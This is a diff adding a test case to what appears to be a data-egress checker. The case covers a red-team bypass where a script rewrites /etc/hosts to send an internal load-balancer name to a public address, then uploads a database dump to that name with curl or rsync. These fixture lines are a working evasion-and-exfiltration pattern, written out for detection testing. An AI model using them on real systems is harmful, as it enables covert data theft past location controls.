@@ -404,6 +404,38 @@ describe("a script that uploads to a host", () => {
     expect(await named(instance(script)(oregon), "vm", settings)).toEqual([]);
   });
 
+  // Red team 85 (a20, literal): a script that maps an in-region load balancer's name to a public
+  // address in /etc/hosts, then uploads to that name, passed: the name alone was placed.
+  test("fails when the script's hosts file maps the upload's host to an address the pack cannot place", async () => {
+    const lb = "internal-lb-123.us-west-2.elb.amazonaws.com";
+    const upload = `curl -k -T /data/dump.sql https://${lb}/upload`;
+    const mapped = (entry: string, line = upload) =>
+      instance(`#!/bin/bash\n${entry}\n${line}\n`)(oregon);
+    const abroad = "203.0.113.9 (a public address the pack cannot place in a country)";
+    expect(await named(mapped(`echo "203.0.113.9 ${lb}" >> /etc/hosts`), "vm")).toEqual([abroad]);
+    // A copy's host too, and the entry written after the line (the file stays rewritten).
+    expect(
+      await named(
+        mapped(`rsync -a /data/ ops@${lb}:/srv/`, `echo "203.0.113.9 ${lb}" >> /etc/hosts`),
+        "vm",
+      ),
+    ).toEqual([abroad]);
+    expect(
+      await named(mapped(`echo "203.0.113.9 x.internal ${lb}" | sudo tee -a /etc/hosts`), "vm"),
+    ).toEqual([abroad]);
+    expect(
+      await named(mapped(`cat >> /etc/hosts <<EOF\n203.0.113.9 ${lb.toUpperCase()}\nEOF`), "vm"),
+    ).toEqual([abroad]);
+    // An address built at run time cannot be placed.
+    expect(await named(mapped(`echo "$BACKUP_IP ${lb}" >> /etc/hosts`), "vm")).toEqual([
+      "a destination the command builds at run time ($BACKUP_IP), which cannot be read",
+    ]);
+    // Twins: a private address, another name, the machine's own name.
+    expect(await named(mapped(`echo "10.0.4.20 ${lb}" >> /etc/hosts`), "vm")).toEqual([]);
+    expect(await named(mapped('echo "203.0.113.9 other.example" >> /etc/hosts'), "vm")).toEqual([]);
+    expect(await named(mapped('echo "127.0.0.1 $(hostname)" >> /etc/hosts'), "vm")).toEqual([]);
+  });
+
   test("an upload to a regional endpoint abroad is one finding, the endpoint's", async () => {
     const script =
       "#!/bin/bash\ntar cz /data | curl -T - https://s3.eu-west-1.amazonaws.com/b/d.tgz\n";
